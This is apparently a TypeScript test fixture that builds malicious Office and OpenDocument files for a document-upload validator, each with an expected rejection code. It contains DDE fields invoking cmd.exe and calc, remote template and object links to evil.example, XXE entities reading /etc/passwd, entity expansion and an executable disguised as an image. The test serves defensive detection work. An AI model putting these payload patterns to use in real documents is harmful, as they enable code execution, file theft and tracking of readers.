import { docxFile, openDocumentFile, pptxFile, relationships, wordDocument, xlsxFile } from '../files/office-file.ts'
import { allAs, type Hostile } from './hostile-file.ts'

const openXml = 'application/vnd.openxmlformats-officedocument'
const compound = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(2_000),
  Buffer.from('EncryptedPackage', 'utf16le'),
])
const macroType =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

function withRelation(kind: string, target: string, part = 'word/_rels/document.xml.rels'): Buffer {
  return docxFile({ [part]: relationships([[kind, target, true]]) })
}

const docx: readonly Hostile[] = [
  ['has a macro', docxFile({ 'word/vbaProject.bin': Buffer.from([1, 2, 3]) }), 'office-macro'],
  ['has a macro in capitals', docxFile({ 'WORD/VBAPROJECT.BIN': Buffer.from([1, 2, 3]) }), 'office-macro'],
  ['has a macro elsewhere', docxFile({ 'custom/vbaProject.bin': Buffer.from([1, 2, 3]) }), 'office-macro'],
  ['says that it has macros', docxFile({ '[Content_Types].xml': macroType }), 'office-macro'],
  [
    'loads a template',
    withRelation('attachedTemplate', 'https://evil.example/t.dotm', 'word/_rels/settings.xml.rels'),
    'office-external',
  ],
  [
    'loads a template from a share',
    withRelation('attachedTemplate', String.raw`\\evil\t.dotm`, 'word/_rels/settings.xml.rels'),
    'office-external',
  ],
  ['loads an object', withRelation('oleObject', 'mhtml:http://evil.example!x.html'), 'office-external'],
  ['loads a picture, which tells who reads it', withRelation('image', 'http://evil.example/1.png'), 'office-external'],
  ['loads a frame', withRelation('frame', 'http://evil.example/'), 'office-external'],
  ['loads a part of itself', withRelation('subDocument', 'http://evil.example/'), 'office-external'],
  [
    'has an object of another program',
    docxFile({ 'word/embeddings/oleObject1.bin': Buffer.from([1]) }),
    'office-active-content',
  ],
  ['has a control', docxFile({ 'word/activeX/activeX1.xml': '<ax/>' }), 'office-active-content'],
  [
    'asks another program',
    docxFile({ 'word/document.xml': wordDocument('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>') }),
    'office-active-content',
  ],
  [
    'asks another program, in pieces',
    docxFile({
      'word/document.xml': wordDocument(
        '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>',
      ),
    }),
    'office-active-content',
  ],
  [
    'asks another program in a simple field',
    docxFile({ 'word/document.xml': wordDocument('<w:fldSimple w:instr="DDE cmd"/>') }),
    'office-active-content',
  ],
  [
    'declares entities',
    docxFile({
      'word/document.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>',
    }),
    'markup-entity',
  ],
  [
    'declares entities that multiply',
    docxFile({ 'docProps/core.xml': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>' }),
    'markup-entity',
  ],
  [
    'has a document with a macro in it',
    docxFile({ 'word/embeddings/x.xlsx': xlsxFile({ 'xl/vbaProject.bin': Buffer.from([1]) }) }),
    'office-macro',
  ],
  [
    'has a program in it',
    docxFile({
      'word/media/image1.png': Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0\x04', 'latin1'), Buffer.alloc(90)]),
    }),
    'entry-type-not-accepted',
  ],
  ['changes the menus', docxFile({ 'customUI/customUI14.xml': '<customUI onLoad="x"/>' }), 'office-active-content'],
  ['has an extension from the web', docxFile({ 'word/webextensions/taskpanes.xml': '<x/>' }), 'office-active-content'],
  ['is encrypted', compound, 'office-encrypted'],
  [
    'is of an old format',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'type-not-accepted',
  ],
  ['is a table', xlsxFile(), 'type-differs'],
]
const xlsx: readonly Hostile[] = [
  ['has a macro sheet', xlsxFile({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }), 'office-macro'],
  ['has a macro sheet of another language', xlsxFile({ 'xl/intlMacrosheets/sheet1.xml': '<x/>' }), 'office-macro'],
  ['has a macro', xlsxFile({ 'xl/vbaProject.bin': Buffer.from([1]) }), 'office-macro'],
  ['has a dialogue', xlsxFile({ 'xl/dialogsheets/sheet1.xml': '<x/>' }), 'office-macro'],
  [
    'asks another program',
    xlsxFile({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    }),
    'office-active-content',
  ],
  [
    'loads another table',
    xlsxFile({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
        ['externalLinkPath', 'http://evil.example/x.xlsx', true],
      ]),
    }),
    'office-external',
  ],
  ['has a form control', xlsxFile({ 'xl/ctrlProps/ctrlProp1.xml': '<formControlPr/>' }), 'office-active-content'],
]
const pptx: readonly Hostile[] = [
  ['has a macro', pptxFile({ 'ppt/vbaProject.bin': Buffer.from([1]) }), 'office-macro'],
  [
    'loads a film',
    pptxFile({ 'ppt/slides/_rels/slide1.xml.rels': relationships([['video', 'http://evil.example/v', true]]) }),
    'office-external',
  ],
]
const odt: readonly Hostile[] = [
  [
    'has a library of scripts',
    openDocumentFile('text', { 'Basic/Standard/Module1.xml': '<script:module/>' }),
    'office-macro',
  ],
  ['has scripts', openDocumentFile('text', { 'Scripts/python/x.py': 'import os' }), 'office-macro'],
  [
    'listens for its opening',
    openDocumentFile('text', {
      'content.xml':
        '<o:d><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></o:d>',
    }),
    'office-macro',
  ],
  [
    'loads a template',
    openDocumentFile('text', { 'meta.xml': '<o:m><meta:template xlink:href="https://evil.example/t.ott"/></o:m>' }),
    'office-external',
  ],
  [
    'loads a picture',
    openDocumentFile('text', { 'content.xml': '<o:d><draw:image xlink:href="http://evil.example/1.png"/></o:d>' }),
    'office-external',
  ],
  [
    'loads an object',
    openDocumentFile('text', { 'content.xml': '<o:d><draw:object xlink:href="file:///etc/passwd"/></o:d>' }),
    'office-external',
  ],
  [
    'has an object of another program',
    openDocumentFile('text', { 'Object 1': Buffer.from([1, 2]) }),
    'office-active-content',
  ],
  [
    'is encrypted',
    openDocumentFile('text', {
      'META-INF/manifest.xml': '<m:m><m:file-entry><m:encryption-data/></m:file-entry></m:m>',
    }),
    'office-encrypted',
  ],
]

export const hostileDocuments = [
  ...allAs('report.docx', `${openXml}.wordprocessingml.document`, docx),
  ...allAs('results.xlsx', `${openXml}.spreadsheetml.sheet`, xlsx),
  ...allAs('slides.pptx', `${openXml}.presentationml.presentation`, pptx),
  ...allAs('report.odt', 'application/vnd.oasis.opendocument.text', odt),
  ...allAs('results.ods', 'application/vnd.oasis.opendocument.spreadsheet', [
    [
      'asks another program',
      openDocumentFile('spreadsheet', {
        'content.xml': '<o:d><office:dde-source office:dde-application="cmd"/></o:d>',
      }),
      'office-active-content',
    ],
  ]),
]
